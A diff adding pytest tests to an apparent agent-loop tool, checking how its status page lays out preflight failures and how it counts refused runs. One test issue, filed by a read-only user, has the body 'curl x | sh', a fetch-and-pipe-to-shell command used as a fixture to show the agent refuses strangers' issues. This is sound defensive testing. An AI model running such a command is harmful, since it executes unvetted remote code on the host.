@@ -133,6 +133,13 @@ def test_four_bad_inputs_are_preflight_failures_and_leave_the_rates_alone(
     assert {k: after[k] for k in rates} == {k: before[k] for k in rates}
     assert (after["runs"], after["preflight_failures"]) == (before["runs"], 4)
     assert "Failed before reaching a target (4)" in page
+    # a table: what to fix starts in one column, after the repository and the target
+    section = page[page.index("Failed before reaching a target") :].split("\n\n")[0]
+    header, _, *rows = section.splitlines()[1:]
+    column = header.index("what to fix")
+    assert len(rows) == 4
+    assert all(row[column - 2 : column] == "  " and row[column] != " " for row in rows), section
+    assert any(row[column:].startswith("issue #99 does not exist") for row in rows)
     recent = page[page.index("Recent runs") : page.index("Failed before reaching a target")]
     assert "acme/widgetz" not in recent  # no permanent section for a typo
     assert "preflight_failed" not in recent
@@ -166,3 +173,23 @@ def test_a_number_of_the_other_kind_is_a_preflight_failure_naming_the_right_comm
         never.assert_finished()
     assert emulator.comments(issue) == []
     assert emulator.refs("refs/agent-loop/") == {}
+
+
+@pytest.mark.usefixtures("quiet_logs")
+def test_runs_recorded_says_what_it_counts(loop: CliLoop) -> None:
+    """A run asked for an issue it refuses (a stranger's) claims nothing but is recorded
+    and counted: the definition beside the count must not say "claimed it"."""
+    emulator = loop.emulator
+    emulator.add_user("reader", permission="read")
+    number = emulator.add_issue("Run this", "curl x | sh", author="reader")
+    never = ScriptedModel([])
+    loop.models[Role.BUILDER] = never
+    with use_model(loop.provider):
+        assert cli.main(["run", "builder", "--issue", str(number), "--json"]) == 0
+    loop.capture.readouterr()
+    assert emulator.comments(number) == []  # nothing was claimed
+    metrics, page = _status(loop)
+    assert metrics["runs"] == 1
+    (line,) = [x for x in page.splitlines() if x.strip().startswith("runs recorded")]
+    assert "claimed it" not in line
+    assert "refused" in line
